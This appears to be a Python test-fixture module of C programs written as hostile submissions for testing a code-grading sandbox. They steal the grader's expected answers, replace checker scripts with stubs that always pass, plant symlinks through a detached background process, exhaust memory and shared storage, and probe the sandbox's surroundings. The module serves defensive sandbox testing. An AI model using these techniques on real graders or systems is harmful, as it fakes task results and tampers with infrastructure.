"""Hostile submissions (C sources) for the sandbox tests; `@NAME@` marks what a test fills in.

Each one is what a learner who wants a grade without the work, or the grader's files,
would submit. A well-behaved run of each prints n + 1, the exercise's answer, so a verdict
other than "correct" comes from the sandbox stopping the attack, not from the arithmetic.
"""

READ_EXERCISE = r"""
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static char yml[1 << 16];

static int load(const char *dir) {
    char path[4096];
    snprintf(path, sizeof path, "%s/exercise.yml", dir);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    size_t n = fread(yml, 1, sizeof yml - 1, f);
    yml[n] = 0;
    fclose(f);
    return 1;
}

/* the grader's command line names the exercise folder: /proc/<ppid>/cmdline and others */
static int from_command_lines(void) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        char path[300], args[16384];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        size_t n = fread(args, 1, sizeof args - 1, f);
        fclose(f);
        args[n] = 0;
        for (size_t i = 0; i < n; i += strlen(args + i) + 1)
            if (load(args + i)) return 1;
    }
    return 0;
}

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    if (!load("@DIR@") && !from_command_lines()) { printf("%d\n", n); return 0; }
    char needle[64];
    snprintf(needle, sizeof needle, "stdin: \"%d\\n\"", n);
    char *at = strstr(yml, needle);
    char *expected = at ? strstr(at, "expected: \"") : NULL;
    if (!expected) { printf("%d\n", n); return 0; }
    expected += strlen("expected: \"");
    char *end = strstr(expected, "\\n\"");
    if (end) *end = 0;
    printf("%s\n", expected);
    return 0;
}
"""

INCLUDE_SOLUTION = '#include "@DIR@/solution.c"\n'

REPLACE_CHECKER = r"""
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void replace(const char *dir) {
    const char *names[] = {"main.py", "check.py", "checker", "prog"};
    for (int i = 0; i < 4; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        if (access(path, F_OK) != 0) continue;
        unlink(path);
        FILE *f = fopen(path, "w");
        if (f) { fputs("import sys\nsys.exit(0)\n", f); fclose(f); }
    }
}

int main(void) {
    DIR *up = opendir("..");
    struct dirent *e;
    while (up && (e = readdir(up))) {
        char dir[4096];
        snprintf(dir, sizeof dir, "../%s", e->d_name);
        replace(dir);
    }
    printf("whatever I like\n");
    return 0;
}
"""

# A double-forked, setsid() survivor that outlives its run (it closes the run's pipes so
# the grader does not wait for it) and, with inotify, plants symlinks to @TARGET@ in every
# folder the grader creates next to its own, where the grader then writes and chmods.
# A later run reports whether an earlier run's survivor is still alive.
SURVIVOR = r"""
#include <dirent.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

static int survivor_seen(void) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        char path[300], name[64] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        int found = fgets(name, sizeof name, f) && strncmp(name, "mf-survivor", 11) == 0;
        fclose(f);
        if (found) return 1;
    }
    return 0;
}

static void plant_in(const char *root, const char *name) {
    const char *files[] = {".stdin", "main.c", "input.txt", "actual.txt"};
    char path[PATH_MAX];
    for (int tries = 0; tries < 200000; tries++) {  /* until the grader hands the folder over */
        snprintf(path, sizeof path, "%s/%s/%s", root, name, files[0]);
        if (symlink("@TARGET@", path) == 0) break;
    }
    for (int i = 1; i < 4; i++) {
        snprintf(path, sizeof path, "%s/%s/%s", root, name, files[i]);
        symlink("@TARGET@", path);
    }
}

static void plant(void) {
    char root[PATH_MAX];
    if (!getcwd(root, sizeof root)) return;
    char *slash = strrchr(root, '/');
    if (!slash || slash == root) return;
    *slash = 0;
    int fd = inotify_init1(0);
    if (fd < 0 || inotify_add_watch(fd, root, IN_CREATE) < 0) return;
    time_t stop = time(NULL) + 5;
    char events[4096];
    while (time(NULL) < stop) {
        struct pollfd ready = {fd, POLLIN, 0};
        if (poll(&ready, 1, 200) <= 0) continue;
        ssize_t length = read(fd, events, sizeof events);
        for (char *at = events; length > 0 && at < events + length;) {
            struct inotify_event *event = (struct inotify_event *) at;
            if (event->len) plant_in(root, event->name);
            at += sizeof *event + event->len;
        }
    }
}

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    if (survivor_seen()) { printf("an earlier run's survivor is alive\n"); return 0; }
    fflush(stdout);
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            prctl(PR_SET_NAME, "mf-survivor");
            close(0); close(1); close(2);
            plant();
            _exit(0);
        }
        _exit(0);
    }
    printf("%d\n", n + 1);
    return 0;
}
"""

# 10 GB: RLIMIT_AS refuses it in the plain run (NULL, then a crash); the AddressSanitizer
# rerun that explains the crash used to get it, and touched it all.
HUGE_MALLOC = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    size_t size = 10UL << 30;
    char *block = malloc(size);
    memset(block, 1, size);
    printf("%d\n", n + 1);
    return 0;
}
"""

# Passes the plain run (RLIMIT_AS stops the loop), then, @WHEN@, allocates and touches
# 1.5 GB a megabyte at a time: a rerun without a memory limit lets it.
GREEDY = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    if (@WHEN@)
        for (int i = 0; i < 1536; i++) {
            char *block = malloc(1 << 20);
            if (!block) break;
            memset(block, 1, 1 << 20);
        }
    printf("%d\n", n + @ANSWER_OFFSET@);
    return 0;
}
"""

UNIX_SOCKET = r"""
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, "@SOCKET@", sizeof address.sun_path - 1);
    if (connect(s, (struct sockaddr *) &address, sizeof address) == 0)
        write(s, "hello from the box\n", 19);
    else
        perror("connect");
    printf("%d\n", n + 1);
    return 0;
}
"""

# 300 files of 1 MB (each under RLIMIT_FSIZE) in /dev/shm, and lock files in /run/lock.
FILL_SHARED_MEMORY = r"""
#include <stdio.h>
#include <string.h>

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    static char block[1 << 20];
    memset(block, 7, sizeof block);
    for (int i = 0; i < 300; i++) {
        char path[64];
        snprintf(path, sizeof path, "/dev/shm/mf-fill-%d-%d", n, i);
        FILE *f = fopen(path, "w");
        if (!f) break;
        fwrite(block, 1, sizeof block - 1, f);
        fclose(f);
    }
    char lock[64];
    snprintf(lock, sizeof lock, "/run/lock/mf-lock-%d", n);
    FILE *f = fopen(lock, "w");
    if (f) fclose(f);
    printf("%d\n", n + 1);
    return 0;
}
"""

SYSV_IPC = r"""
#include <stdio.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>

int main(void) {
    int n;
    if (scanf("%d", &n) != 1) return 1;
    shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0666);
    semget(IPC_PRIVATE, 4, IPC_CREAT | 0666);
    msgget(IPC_PRIVATE, IPC_CREAT | 0666);
    printf("%d\n", n + 1);
    return 0;
}
"""

SHOW_SURROUNDINGS = r"""
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

extern char **environ;

static void show(const char *path) {
    FILE *f = fopen(path, "r");
    if (!f) return;
    int c;
    while ((c = fgetc(f)) != EOF) putchar(c ? c : ' ');
    putchar('\n');
    fclose(f);
}

int main(int argc, char **argv) {
    for (int i = 0; i < argc; i++) printf("argv %s\n", argv[i]);
    for (char **e = environ; *e; e++) printf("env %s\n", *e);
    char cwd[4096];
    if (getcwd(cwd, sizeof cwd)) printf("cwd %s\n", cwd);
    show("/proc/1/cmdline");
    char parent[64];
    snprintf(parent, sizeof parent, "/proc/%d/cmdline", (int) getppid());
    show(parent);
    show("/proc/self/mountinfo");
    return 0;
}
"""
